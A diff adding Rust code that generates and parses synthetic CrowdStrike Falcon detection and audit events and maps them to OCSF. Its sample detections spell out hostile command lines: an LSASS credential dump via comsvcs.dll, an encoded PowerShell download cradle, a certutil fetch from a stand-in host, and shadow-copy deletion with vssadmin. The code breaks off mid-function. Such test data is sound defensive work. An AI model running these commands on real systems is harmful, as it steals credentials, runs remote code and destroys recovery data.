@@ -1,0 +1,996 @@
+//! CrowdStrike Falcon: Event Streams API (streaming API) events in JSON, and detections in
+//! CEF as the Falcon SIEM Connector writes them.
+//!
+//! Format: streaming API events `{"metadata": {"customerIDString", "offset", "eventType",
+//! "eventCreationTime", "version": "1.0"}, "event": {...}}` for DetectionSummaryEvent,
+//! AuthActivityAuditEvent and UserActivityAuditEvent. The reader also maps the Endpoint,
+//! Mobile and XDR detection summaries, identity protection, incident and lead summaries of the
+//! same stream. The CEF variant follows the SIEM Connector 2.x default mapping
+//! (`CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|...`).
+//! Vendor documentation: <https://falcon.crowdstrike.com/documentation/page/62/streaming-api-event-dictionary>
+//! (requires a Falcon login).
+
+use std::fmt::Write as _;
+
+use serde_json::{Map, Value};
+
+use super::json_support::{self, Alphabet};
+use super::{Framing, GenContext, ParseOptions, ParseState, Parsed, Source, SourceMeta, Variant, WireFormat};
+use crate::error::ParseError;
+use crate::fields::Fields;
+use crate::format::{cef, json};
+use crate::ocsf::{self, class, RecordBuilder};
+use crate::timestamp::Timestamp;
+use crate::world::{Host, User};
+
+/// The `crowdstrike_falcon` source.
+pub struct CrowdstrikeFalcon;
+
+const VARIANTS: &[Variant] = &[
+    Variant { name: "DetectionSummaryEvent", weight: 10, format: WireFormat::Json, description: "the sensor detected or prevented malicious activity on a host" },
+    Variant { name: "AuthActivityAuditEvent", weight: 30, format: WireFormat::Json, description: "a console user signed in, or an API client started a stream" },
+    Variant { name: "UserActivityAuditEvent", weight: 20, format: WireFormat::Json, description: "a console user changed a detection, group or policy" },
+    Variant { name: "cef_detection", weight: 0, format: WireFormat::Cef, description: "a detection in CEF, as the SIEM Connector writes it" },
+];
+
+const DETECTION: usize = 0;
+const AUTH_AUDIT: usize = 1;
+const USER_AUDIT: usize = 2;
+const CEF_DETECTION: usize = 3;
+
+static META: SourceMeta = SourceMeta {
+    id: "crowdstrike_falcon",
+    aliases: &[],
+    vendor: "CrowdStrike",
+    product: "Falcon",
+    category: "endpoint",
+    formats: &[WireFormat::Json, WireFormat::Cef],
+    sourcetype: "crowdstrike:falcon:event:streams",
+    ocsf_classes: &[class::DETECTION_FINDING, class::AUTHENTICATION, class::API_ACTIVITY],
+    doc_url: "https://falcon.crowdstrike.com/documentation/page/62/streaming-api-event-dictionary",
+    versions: "Event Streams API v2 (metadata version 1.0), SIEM Connector 2.x CEF",
+    known_gaps: &[
+        "a detection maps to one Detection Finding with the process as actor and evidence, and no separate Process Activity record is emitted",
+        "Falcon Data Replicator telemetry (ProcessRollup2 and other sensor events) is a different feed and is not read",
+        "Threat Graph vertices and ScheduledReportNotificationEvent have no OCSF mapping",
+        "CEF is generated for detections only; audit events in CEF are read",
+    ],
+    variants: VARIANTS,
+    framing: Framing::Lines,
+};
+
+/// One kind of detection: name, description, tactic, technique, objective, severity (1 to 5),
+/// file name, folder, command line, parent image, parent command line, disposition.
+struct Detection {
+    name: &'static str,
+    description: &'static str,
+    tactic: &'static str,
+    technique: &'static str,
+    objective: &'static str,
+    severity: u8,
+    file: &'static str,
+    folder: &'static str,
+    command: &'static str,
+    parent: &'static str,
+    parent_command: &'static str,
+    disposition: &'static Disposition,
+}
+
+/// A pattern disposition: value, description and the flag it sets.
+struct Disposition {
+    value: i64,
+    description: &'static str,
+    flag: Option<&'static str>,
+}
+
+const DETECTED: Disposition = Disposition { value: 0, description: "Detection, standard detection.", flag: None };
+const KILLED: Disposition = Disposition { value: 16, description: "Prevention, process killed.", flag: Some("KillProcess") };
+const BLOCKED: Disposition = Disposition { value: 2048, description: "Prevention, process was blocked from execution.", flag: Some("ProcessBlocked") };
+
+/// Flags of `PatternDispositionFlags` and their field names, in the order the stream writes
+/// them.
+const DISPOSITION_FLAGS: &[(&str, &str)] = &[
+    ("Indicator", "event.PatternDispositionFlags.Indicator"),
+    ("Detect", "event.PatternDispositionFlags.Detect"),
+    ("InddetMask", "event.PatternDispositionFlags.InddetMask"),
+    ("SensorOnly", "event.PatternDispositionFlags.SensorOnly"),
+    ("Rooting", "event.PatternDispositionFlags.Rooting"),
+    ("KillProcess", "event.PatternDispositionFlags.KillProcess"),
+    ("KillSubProcess", "event.PatternDispositionFlags.KillSubProcess"),
+    ("QuarantineMachine", "event.PatternDispositionFlags.QuarantineMachine"),
+    ("QuarantineFile", "event.PatternDispositionFlags.QuarantineFile"),
+    ("PolicyDisabled", "event.PatternDispositionFlags.PolicyDisabled"),
+    ("KillParent", "event.PatternDispositionFlags.KillParent"),
+    ("OperationBlocked", "event.PatternDispositionFlags.OperationBlocked"),
+    ("ProcessBlocked", "event.PatternDispositionFlags.ProcessBlocked"),
+];
+
+const SYSTEM32: &str = "\\Device\\HarddiskVolume3\\Windows\\System32";
+const DETECTIONS: &[Detection] = &[
+    Detection {
+        name: "Suspicious Activity",
+        description: "A process read the memory of LSASS, which can expose credentials. Review the process tree.",
+        tactic: "Credential Access",
+        technique: "OS Credential Dumping",
+        objective: "Gain Access",
+        severity: 5,
+        file: "rundll32.exe",
+        folder: SYSTEM32,
+        command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\debug.bin full",
+        parent: "cmd.exe",
+        parent_command: "cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"",
+        disposition: &KILLED,
+    },
+    Detection {
+        name: "Suspicious Activity",
+        description: "PowerShell ran an encoded command that downloads and starts a remote payload.",
+        tactic: "Execution",
+        technique: "PowerShell",
+        objective: "Follow Through",
+        severity: 4,
+        file: "powershell.exe",
+        folder: "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
+        command: "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        parent: "WINWORD.EXE",
+        parent_command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\Invoice_48213.docm\"",
+        disposition: &BLOCKED,
+    },
+    Detection {
+        name: "Malicious Document",
+        description: "An Office application started a command shell, as macro-based droppers do.",
+        tactic: "Execution",
+        technique: "User Execution",
+        objective: "Follow Through",
+        severity: 4,
+        file: "cmd.exe",
+        folder: SYSTEM32,
+        command: "cmd.exe /c certutil -urlcache -split -f http://update-service.example/a.dat %TEMP%\\a.exe",
+        parent: "EXCEL.EXE",
+        parent_command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
+        disposition: &DETECTED,
+    },
+    Detection {
+        name: "Process Terminated",
+        description: "A process tried to delete volume shadow copies, a step ransomware takes before encrypting files.",
+        tactic: "Impact",
+        technique: "Inhibit System Recovery",
+        objective: "Keep Access",
+        severity: 5,
+        file: "vssadmin.exe",
+        folder: SYSTEM32,
+        command: "vssadmin.exe delete shadows /all /quiet",
+        parent: "cmd.exe",
+        parent_command: "cmd.exe /c vssadmin.exe delete shadows /all /quiet",
+        disposition: &KILLED,
+    },
+    Detection {
+        name: "Suspicious Activity",
+        description: "A scheduled task was created to start a binary from a writable folder at every logon.",
+        tactic: "Persistence",
+        technique: "Scheduled Task/Job",
+        objective: "Keep Access",
+        severity: 3,
+        file: "schtasks.exe",
+        folder: SYSTEM32,
+        command: "schtasks.exe /create /sc onlogon /tn \"OneDrive Sync Helper\" /tr C:\\ProgramData\\odsync.exe /rl highest /f",
+        parent: "powershell.exe",
+        parent_command: "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\setup.ps1",
+        disposition: &DETECTED,
+    },
+    Detection {
+        name: "Machine Learning",
+        description: "This file meets the on-sensor machine learning high-confidence threshold for malicious files.",
+        tactic: "Machine Learning",
+        technique: "Sensor-based ML",
+        objective: "Falcon Detection Method",
+        severity: 4,
+        file: "AdobeUpdate_x64.exe",
+        folder: "\\Device\\HarddiskVolume3\\Users\\Public\\Downloads",
+        command: "\"C:\\Users\\Public\\Downloads\\AdobeUpdate_x64.exe\" /silent",
+        parent: "explorer.exe",
+        parent_command: "C:\\Windows\\Explorer.EXE",
+        disposition: &BLOCKED,
+    },
+    Detection {
+        name: "Suspicious Activity",
+        description: "A remote service was created through an administrative share, as lateral movement tools do.",
+        tactic: "Lateral Movement",
+        technique: "Remote Services",
+        objective: "Explore",
+        severity: 3,
+        file: "services.exe",
+        folder: SYSTEM32,
+        command: "C:\\Windows\\PSEXESVC.exe",
+        parent: "wininit.exe",
+        parent_command: "wininit.exe",
+        disposition: &DETECTED,
+    },
+];
+
+const SEVERITY_NAMES: [&str; 6] = ["Informational", "Informational", "Low", "Medium", "High", "Critical"];
+
+/// Console and API operations of AuthActivityAuditEvent: operation, service, share of failures
+/// in per mille.
+const AUTH_OPERATIONS: &[(&str, &str, u32)] = &[
+    ("userAuthenticate", "CrowdStrike Authentication", 60),
+    ("twoFactorAuthenticate", "CrowdStrike Authentication", 30),
+    ("saml2Assert", "CrowdStrike Authentication", 10),
+    ("streamStarted", "Crowdstrike Streaming API", 0),
+    ("requestResetPassword", "CrowdStrike Authentication", 0),
+];
+/// Console changes of UserActivityAuditEvent: operation, service, audit keys.
+const USER_OPERATIONS: &[(&str, &str)] = &[
+    ("detection_update", "detections"),
+    ("update_group", "groups"),
+    ("update_device_control_policy", "device control policies"),
+    ("quarantined_file_update", "quarantined_files"),
+    ("create_user", "users"),
+];
+const DETECTION_STATES: &[&str] = &["in_progress", "true_positive", "false_positive", "closed", "ignored"];
+
+/// The entities one event names.
+struct Subject<'w> {
+    user: &'w User,
+    host: &'w Host,
+    /// Falcon agent id of the host, 32 hex digits.
+    agent: json_support::ShortId,
+    /// Customer id of the organisation, 32 hex digits.
+    customer: json_support::ShortId,
+}
+
+impl Source for CrowdstrikeFalcon {
+    fn meta(&self) -> &'static SourceMeta {
+        &META
+    }
+
+    fn fill(&self, ctx: &mut GenContext<'_>, fields: &mut Fields) {
+        let world = ctx.world;
+        let index = ctx.rng.index(world.users.len());
+        let subject = Subject {
+            user: &world.users[index],
+            host: world.workstation_of(index),
+            agent: json_support::ShortId::stable("", Alphabet::Hex, 32, &[&world.organisation, &world.workstation_of(index).hostname]),
+            customer: json_support::ShortId::stable("", Alphabet::Hex, 32, &[&world.organisation, "falcon-cid"]),
+        };
+        if ctx.variant == CEF_DETECTION {
+            fill_cef_detection(ctx, fields, &subject);
+            return;
+        }
+
+        fields.str("metadata.customerIDString", subject.customer.as_str());
+        // The stream offset grows with every event of the customer's stream.
+        fields.int("metadata.offset", 4_100_000 + ctx.index as i64 * 3);
+        fields.str("metadata.eventType", VARIANTS[ctx.variant].name);
+        fields.int("metadata.eventCreationTime", ctx.time.millis());
+        fields.str("metadata.version", "1.0");
+        match ctx.variant {
+            DETECTION => fill_detection(ctx, fields, &subject),
+            AUTH_AUDIT => fill_auth_audit(ctx, fields),
+            USER_AUDIT => fill_user_audit(ctx, fields),
+            _ => {}
+        }
+    }
+
+    fn write(&self, variant: usize, fields: &Fields, out: &mut String) {
+        if variant != CEF_DETECTION {
+            json::write_fields(fields, out);
+            return;
+        }
+        out.push_str("CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|");
+        cef::write_header_value(out, fields.get("name").unwrap_or(""));
+        out.push('|');
+        cef::write_header_value(out, fields.get("severity").unwrap_or(""));
+        out.push('|');
+        let mut first = true;
+        for (name, _, value) in fields.iter().filter(|(name, _, _)| !matches!(*name, "name" | "severity")) {
+            if !first {
+                out.push(' ');
+            }
+            first = false;
+            out.push_str(name);
+            out.push('=');
+            cef::write_extension_value(out, value);
+        }
+    }
+
+    fn parse_line(&self, line: &str, state: &mut ParseState) -> Result<Option<Parsed>, ParseError> {
+        if cef::find_start(line).is_some() {
+            return read_cef(line).map(Some);
+        }
+        json_support::parse_line_json(self, line, state)
+    }
+
+    fn parse_json(&self, value: &Value, state: &mut ParseState) -> Result<Option<Parsed>, ParseError> {
+        // A collector may keep the connector's CEF line in a message field.
+        if let Some(text) = value.get("message").and_then(Value::as_str).filter(|t| cef::find_start(t).is_some()) {
+            return self.parse_line(text, state);
+        }
+        let event_type = value.pointer("/metadata/eventType").and_then(Value::as_str);
+        let (Some(event_type), Some(true)) = (event_type, value.get("event").map(Value::is_object)) else {
+            return Err(ParseError::new(0, "not a Falcon streaming event: metadata.eventType or the event object is missing"));
+        };
+        if event_type == "Vertex" {
+            return Err(ParseError::new(0, "a Threat Graph vertex describes an entity, not a streaming event; this source reads Event Streams events"));
+        }
+        let variant = VARIANTS[..CEF_DETECTION].iter().find(|v| v.name == event_type).map(|v| v.name);
+        Ok(Some(json_support::flattened(value, variant)))
+    }
+
+    fn to_ocsf(&self, parsed: &Parsed, _options: &ParseOptions) -> Result<Map<String, Value>, ParseError> {
+        if parsed.variant == Some(VARIANTS[CEF_DETECTION].name) || parsed.fields.contains_key("deviceEventClassId") {
+            return to_ocsf_cef(&parsed.fields);
+        }
+        let fields = &parsed.fields;
+        let event_type = json_support::text(fields, "metadata.eventType").unwrap_or("");
+        let time = event_time(fields)?;
+        match event_type {
+            "AuthActivityAuditEvent" => Ok(audit_record(fields, time, true)),
+            "UserActivityAuditEvent" | "RemoteResponseSessionStartEvent" | "RemoteResponseSessionEndEvent" => Ok(audit_record(fields, time, false)),
+            t if t.ends_with("DetectionSummaryEvent")
+                || matches!(t, "IdentityProtectionEvent" | "IncidentSummaryEvent" | "AutomatedLeadSummaryEvent" | "ReconNotificationSummaryEvent") =>
+            {
+                Ok(detection_record(fields, time))
+            }
+            other => Err(ParseError::new(0, format!("no OCSF mapping for Falcon event type '{other}'"))),
+        }
+    }
+}
+
+/// Appends the detection id number of a detection, stable for its agent and time.
+fn detection_number(subject: &Subject<'_>, time: Timestamp) -> u64 {
+    let seed = crate::seed::fnv1a(subject.agent.as_str().as_bytes()) ^ time.0 as u64;
+    40_000_000_000 + crate::seed::splitmix64(seed) % 9_000_000_000
+}
+
+fn fill_detection(ctx: &mut GenContext<'_>, fields: &mut Fields, subject: &Subject<'_>) {
+    let detection = ctx.rng.pick(DETECTIONS);
+    let world = ctx.world;
+    let start = ctx.time.secs() - ctx.rng.range(5, 300) as i64;
+    let killed = detection.disposition.value == KILLED.value;
+    let process_id = ctx.rng.range(10_000_000_000, 900_000_000_000) as i64;
+    let number = detection_number(subject, ctx.time);
+    let (agent, customer) = (subject.agent.as_str(), subject.customer.as_str());
+
+    fields.int("event.ProcessStartTime", start);
+    fields.int("event.ProcessEndTime", if killed { ctx.time.secs() } else { 0 });
+    fields.int("event.ProcessId", process_id);
+    fields.int("event.ParentProcessId", process_id - ctx.rng.range(1_000, 5_000_000) as i64);
+    fields.str("event.ComputerName", &subject.host.hostname);
+    fields.str("event.UserName", &subject.user.username);
+    fields.str("event.DetectName", detection.name);
+    fields.str("event.DetectDescription", detection.description);
+    fields.int("event.Severity", i64::from(detection.severity));
+    fields.str("event.SeverityName", SEVERITY_NAMES[usize::from(detection.severity)]);
+    fields.str("event.FileName", detection.file);
+    fields.str("event.FilePath", detection.folder);
+    fields.str("event.CommandLine", detection.command);
+    fields.with("event.SHA256String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 64));
+    fields.with("event.MD5String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 32));
+    fields.with("event.SHA1String", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 40));
+    fields.str("event.MachineDomain", &world.netbios_domain);
+    fields.fmt("event.FalconHostLink", format_args!("https://falcon.crowdstrike.com/activity/detections/detail/{agent}/{number}?_cid={customer}"));
+    fields.str("event.SensorId", agent);
+    fields.fmt("event.DetectId", format_args!("ldt:{agent}:{number}"));
+    fields.fmt("event.LocalIP", format_args!("{}", subject.host.ip));
+    fields.with("event.MACAddress", |out| out.extend(subject.host.mac.chars().map(|c| if c == ':' { '-' } else { c })));
+    fields.str("event.Tactic", detection.tactic);
+    fields.str("event.Technique", detection.technique);
+    fields.str("event.Objective", detection.objective);
+    fields.str("event.PatternDispositionDescription", detection.disposition.description);
+    fields.int("event.PatternDispositionValue", detection.disposition.value);
+    for (flag, name) in DISPOSITION_FLAGS {
+        fields.bool(name, detection.disposition.flag == Some(*flag));
+    }
+    fields.str("event.ParentImageFileName", detection.parent);
+    fields.str("event.ParentCommandLine", detection.parent_command);
+    fields.str("event.GrandparentImageFileName", "explorer.exe");
+    fields.str("event.GrandparentCommandLine", "C:\\Windows\\Explorer.EXE");
+}
+
+fn fill_auth_audit(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let (operation, service, failure) = *ctx.rng.pick(AUTH_OPERATIONS);
+    let success = !ctx.rng.chance(failure);
+    let stream = operation == "streamStarted";
+    let admin = world.users.iter().filter(|u| u.admin).nth(ctx.rng.index(8)).unwrap_or(&world.users[0]);
+
+    if stream {
+        fields.with("event.UserId", |out| json_support::write_stable_id(out, "", Alphabet::Hex, 32, &[&world.organisation, "siem-connector"]));
+    } else {
+        fields.str("event.UserId", &admin.email);
+    }
+    let address = if success || !ctx.rng.chance(500) { ctx.rng.pick(&world.nat_addresses) } else { ctx.rng.pick(&world.external_addresses) };
+    fields.fmt("event.UserIp", format_args!("{address}"));
+    fields.str("event.OperationName", operation);
+    fields.str("event.ServiceName", service);
+    fields.bool("event.Success", success);
+    fields.int("event.UTCTimestamp", ctx.time.secs());
+
+    let email = admin.email.as_str();
+    let organisation = world.organisation.as_str();
+    fields.json_with("event.AuditKeyValues", |out| match operation {
+        "streamStarted" => {
+            let _ = write!(
+                out,
+                "[{{\"Key\":\"APIClientID\",\"ValueString\":\"{}\"}},{{\"Key\":\"partition\",\"ValueString\":\"0\"}},{{\"Key\":\"offset\",\"ValueString\":\"-1\"}},{{\"Key\":\"appId\",\"ValueString\":\"{organisation}-siem\"}},{{\"Key\":\"eventType\",\"ValueString\":\"All event type(s)\"}}]",
+                json_support::ShortId::stable("", Alphabet::Hex, 32, &[organisation, "siem-connector"]).as_str()
+            );
+        }
+        _ => {
+            let _ = write!(out, "[{{\"Key\":\"target_name\",\"ValueString\":\"{email}\"}}]");
+        }
+    });
+}
+
+fn fill_user_audit(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let (operation, service) = *ctx.rng.pick(USER_OPERATIONS);
+    let admin = world.users.iter().filter(|u| u.admin).nth(ctx.rng.index(8)).unwrap_or(&world.users[0]);
+    let target_index = ctx.rng.index(world.users.len());
+    let target_host = world.workstation_of(target_index);
+    let agent = json_support::ShortId::stable("", Alphabet::Hex, 32, &[&world.organisation, &target_host.hostname]);
+    let state = ctx.rng.pick_str(DETECTION_STATES);
+    let number = 40_000_000_000 + ctx.rng.below(9_000_000_000);
+    fields.str("event.UserId", &admin.email);
+    fields.fmt("event.UserIp", format_args!("{}", ctx.rng.pick(&world.nat_addresses)));
+    fields.str("event.OperationName", operation);
+    fields.str("event.ServiceName", service);
+    fields.int("event.UTCTimestamp", ctx.time.secs());
+    let email = admin.email.as_str();
+    let name = admin.display_name.as_str();
+    fields.json_with("event.AuditKeyValues", |out| {
+        let _ = match operation {
+            "detection_update" => write!(
+                out,
+                "[{{\"Key\":\"detection_id\",\"ValueString\":\"ldt:{}:{number}\"}},{{\"Key\":\"new_state\",\"ValueString\":\"{state}\"}},{{\"Key\":\"assigned_to\",\"ValueString\":\"{name}\"}},{{\"Key\":\"assigned_to_uid\",\"ValueString\":\"{email}\"}}]",
+                agent.as_str()
+            ),
+            "update_group" => write!(out, "[{{\"Key\":\"group_name\",\"ValueString\":\"Workstations - Pilot\"}},{{\"Key\":\"added_device\",\"ValueString\":\"{}\"}}]", agent.as_str()),
+            "update_device_control_policy" => write!(out, "[{{\"Key\":\"policy_name\",\"ValueString\":\"Block USB mass storage\"}},{{\"Key\":\"enabled\",\"ValueString\":\"true\"}}]"),
+            "quarantined_file_update" => write!(out, "[{{\"Key\":\"quarantined_file_id\",\"ValueString\":\"{}_{number}\"}},{{\"Key\":\"action_taken\",\"ValueString\":\"release\"}}]", agent.as_str()),
+            _ => write!(out, "[{{\"Key\":\"target_name\",\"ValueString\":\"{}\"}},{{\"Key\":\"roles\",\"ValueString\":\"falcon_analyst\"}}]", world.users[target_index].email),
+        };
+    });
+}
+
+/// Writes a detection in the SIEM Connector's CEF layout: header name and severity, then the
+/// extension keys in the connector's order.
+fn fill_cef_detection(ctx: &mut GenContext<'_>, fields: &mut Fields, subject: &Subject<'_>) {
+    let detection = ctx.rng.pick(DETECTIONS);
+    let process_id = ctx.rng.range(10_000_000_000, 900_000_000_000) as i64;
+    let number = detection_number(subject, ctx.time);
+    let (agent, customer) = (subject.agent.as_str(), subject.customer.as_str());
+
+    fields.str("name", detection.name);
+    fields.int("severity", i64::from(detection.severity));
+    fields.str("externalID", agent);
+    fields.str("cn2Label", "ProcessId");
+    fields.int("cn2", process_id);
+    fields.str("cn1Label", "ParentProcessId");
+    fields.int("cn1", process_id - ctx.rng.range(1_000, 5_000_000) as i64);
+    fields.str("shost", &subject.host.hostname);
+    fields.str("suser", &subject.user.username);
+    fields.str("msg", detection.description);
+    fields.str("fname", detection.file);
+    fields.str("filePath", detection.folder);
+    fields.str("cs5Label", "CommandLine");
+    fields.str("cs5", detection.command);
+
+    fields.with("fileHash", |out| json_support::write_random(out, &mut ctx.rng, Alphabet::Hex, 64));
+    fields.str("sntdom", &ctx.world.netbios_domain);
+    fields.str("cs6Label", "FalconHostLink");
+    fields.fmt("cs6", format_args!("https://falcon.crowdstrike.com/activity/detections/detail/{agent}/{number}?_cid={customer}"));
+    fields.str("cn3Label", "Offset");
+    fields.int("cn3", 4_100_000 + ctx.index as i64 * 3);
+    fields.int("rt", ctx.time.millis());
+
+    fields.fmt("src", format_args!("{}", subject.host.ip));
+    fields.with("smac", |out| out.extend(subject.host.mac.chars().map(|c| if c == ':' { '-' } else { c })));
+    fields.str("cat", detection.tactic);
+    fields.str("act", detection.technique);
+    fields.str("reason", detection.objective);
+    fields.int("outcome", detection.disposition.value);
+    fields.str("CSMTRPatternDisposition", detection.disposition.description);
+}
+
+/// Extension keys whose values are integers in the connector's output.
+const CEF_INTEGERS: &[&str] = &["severity", "cn1", "cn2", "cn3", "rt", "outcome"];
+
+/// Reads a SIEM Connector CEF line into fields named by its keys, plus `deviceEventClassId`
+/// for event types other than detections.
+fn read_cef(line: &str) -> Result<Parsed, ParseError> {
+    let event = cef::parse(line)?;
+    if !event.device_vendor.eq_ignore_ascii_case("CrowdStrike") {
+        return Err(ParseError::new(event.prefix_offset, format!("CEF from '{}', not CrowdStrike", event.device_vendor)));
+    }
+    let mut fields = Map::new();
+    let mut put = |name: &str, value: &str| {
+        let typed = match value.parse::<i64>() {
+            Ok(number) if CEF_INTEGERS.contains(&name) && !value.starts_with('+') => Value::from(number),
+            _ => Value::String(value.to_string()),
+        };
+        fields.insert(name.to_string(), typed);
+    };
+    let class_id = event.device_event_class_id.to_string();
+    put("name", &event.name);
+    put("severity", &event.severity);
+    for (key, value) in &event.extension {
+        put(key, value);
+    }
+    let variant = if class_id == "DetectionSummaryEvent" {
+        Some(VARIANTS[CEF_DETECTION].name)
+    } else {
+        fields.insert("deviceEventClassId".into(), Value::String(class_id));
+        None
+    };
+    Ok(Parsed { variant, fields })
+}
+
+/// Reads the time of a streaming event: `eventCreationTime` (milliseconds, or seconds in some
+/// connector versions), else the event's own timestamps.
+fn event_time(fields: &Map<String, Value>) -> Result<Timestamp, ParseError> {
+    ["metadata.eventCreationTime", "event.UTCTimestamp", "event.ProcessStartTime", "event.ContextTimeStamp", "event.StartTime", "event.IncidentStartTime"]
+        .iter()
+        .find_map(|name| json_support::epoch_time(fields, name))
+        .ok_or_else(|| ParseError::new(0, "the event has no eventCreationTime or other time"))
+}
+
+/// Maps a Falcon severity to `severity_id`: the 1 to 5 scale of DetectionSummaryEvent, or the
+/// 0 to 100 scale of the newer summaries.
+fn severity_id(fields: &Map<String, Value>) -> u32 {
+    let name = json_support::text(fields, "event.SeverityName").unwrap_or("").to_ascii_lowercase();
+    match name.as_str() {
+        "informational" | "info" => return ocsf::severity::INFORMATIONAL,
+        "low" => return ocsf::severity::LOW,
+        "medium" => return ocsf::severity::MEDIUM,
+        "high" => return ocsf::severity::HIGH,
+        "critical" => return ocsf::severity::CRITICAL,
+        _ => {}
+    }
+    match json_support::integer(fields, "event.Severity") {
+        Some(s @ 1..=5) if json_support::text(fields, "metadata.eventType") == Some("DetectionSummaryEvent") => s as u32,
+        Some(s) if s < 20 => ocsf::severity::INFORMATIONAL,
+        Some(s) if s < 40 => ocsf::severity::LOW,
+        Some(s) if s < 60 => ocsf::severity::MEDIUM,
+        Some(s) if s < 80 => ocsf::severity::HIGH,
+        Some(_) => ocsf::severity::CRITICAL,
+        None => ocsf::severity::UNKNOWN,
+    }
+}
+
+/// Joins a Falcon `FilePath` (which may or may not end with the file name) and `FileName`.
+fn full_path(folder: &str, file: &str) -> String {
+    if folder.ends_with(file) {
+        folder.to_string()
+    } else if folder.contains('/') {
+        format!("{}/{file}", folder.trim_end_matches('/'))
+    } else {
+        format!("{}\\{file}", folder.trim_end_matches('\\'))
+    }
+}
+
+fn detection_record(fields: &Map<String, Value>, time: Timestamp) -> Map<String, Value> {
+    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
+    let mut record = RecordBuilder::new(class::DETECTION_FINDING, 1, time, &META);
+    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
+    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
+    let uid = ["DetectId", "CompositeId", "IdentityProtectionIncidentId", "IncidentID", "LeadId", "MobileDetectionId"]
+        .iter()
+        .find_map(|name| text(name).map(str::to_string).or_else(|| json_support::integer(fields, &format!("event.{name}")).map(|n| n.to_string())))
+        .unwrap_or_else(|| "unknown".to_string());
+    record.set_str("metadata.uid", Some(uid.as_str()));
+    record.set("finding_info.uid", uid.as_str());
+    let title = ["DetectName", "Name", "IncidentType", "IncidentDescription"].iter().find_map(|name| text(name)).map(str::to_string);
+    let title = title.unwrap_or_else(|| json_support::text(fields, "metadata.eventType").unwrap_or("Falcon detection").to_string());
+    record.set("finding_info.title", title.as_str());
+    record.set_str("finding_info.desc", text("DetectDescription").or_else(|| text("Description")).or_else(|| text("IncidentDescription")));
+    record.set_str("finding_info.src_url", text("FalconHostLink"));
+    if let Some(objective) = text("Objective") {
+        record.set("finding_info.types", vec![Value::from(objective)]);
+    }
+    let attacks = attacks(fields);
+    if !attacks.is_empty() {
+        record.set("finding_info.attacks", attacks);
+    }
+    record.severity(severity_id(fields));
+    record.set("is_alert", true);
+    record.status(1).set("status", "New");
+
+    let disposition = json_support::integer(fields, "event.PatternDispositionValue");
+    let blocked = json_support::boolean(fields, "event.PatternDispositionFlags.ProcessBlocked") == Some(true)
+        || json_support::boolean(fields, "event.PatternDispositionFlags.KillProcess") == Some(true)
+        || json_support::boolean(fields, "event.PatternDispositionFlags.OperationBlocked") == Some(true);
+    let quarantined = json_support::boolean(fields, "event.PatternDispositionFlags.QuarantineFile") == Some(true);
+    if quarantined {
+        record.set("disposition_id", 3).set("disposition", "Quarantined").set("action_id", 2).set("action", "Denied");
+    } else if blocked || disposition.is_some_and(|d| d & (16 | 2048) != 0) {
+        record.set("disposition_id", 2).set("disposition", "Blocked").set("action_id", 2).set("action", "Denied");
+    } else if disposition.is_some() {
+        record.set("disposition_id", 1).set("disposition", "Allowed").set("action_id", 3).set("action", "Observed");
+    }
+    record.set_str("status_detail", text("PatternDispositionDescription"));
+
+    if let Some(host) = text("ComputerName").or_else(|| text("Hostname")).or_else(|| text("EndpointName")) {
+        record.set("device.hostname", host).set("device.type_id", 0).set("device.type", "Unknown");
+        record.set_str("device.uid", text("SensorId").or_else(|| text("AgentId")));
+        record.set_str("device.domain", text("MachineDomain"));
+        if let Some(ip) = text("LocalIP").filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()) {
+            record.set("device.ip", ip);
+        }
+        if let Some(mac) = text("MACAddress").filter(|m| m.len() == 17) {
+            record.set("device.mac", mac.replace('-', ":"));
+        }
+    }
+    if let Some(evidence) = process_evidence(fields) {
+        // The detected process and its user are also the actor of the finding.
+        if let Some(process) = evidence.get("process") {
+            record.set("actor.process", process.clone());
+        }
+        if let Some(user) = evidence.get("user") {
+            record.set("actor.user", user.clone());
+        }
+        record.set("evidences", vec![Value::Object(evidence)]);
+    } else if let Some(user) = text("UserName") {
+        record.set("actor.user.name", user);
+    }
+    record.build()
+}
+
+/// Returns the MITRE ATT&CK pairs of a detection: the `MitreAttack` list of newer summaries,
+/// or the single Tactic and Technique.
+fn attacks(fields: &Map<String, Value>) -> Vec<Value> {
+    let mut attacks = Vec::new();
+    let mut push = |tactic: Option<&str>, tactic_id: Option<&str>, technique: Option<&str>, technique_id: Option<&str>| {
+        let mut attack = Map::new();
+        if tactic.is_some() || tactic_id.is_some() {
+            let mut object = Map::new();
+            if let Some(name) = tactic {
+                object.insert("name".into(), name.into());
+            }
+            if let Some(uid) = tactic_id {
+                object.insert("uid".into(), uid.into());
+            }
+            attack.insert("tactic".into(), Value::Object(object));
+        }
+        if technique.is_some() || technique_id.is_some() {
+            let mut object = Map::new();
+            if let Some(name) = technique {
+                object.insert("name".into(), name.into());
+            }
+            if let Some(uid) = technique_id {
+                object.insert("uid".into(), uid.into());
+            }
+            attack.insert("technique".into(), Value::Object(object));
+        }
+        if !attack.is_empty() {
+            attacks.push(Value::Object(attack));
+        }
+    };
+    if let Some(list) = fields.get("event.MitreAttack").and_then(Value::as_array) {
+        for item in list {
+            let get = |key: &str| item.get(key).and_then(Value::as_str).filter(|v| !v.is_empty());
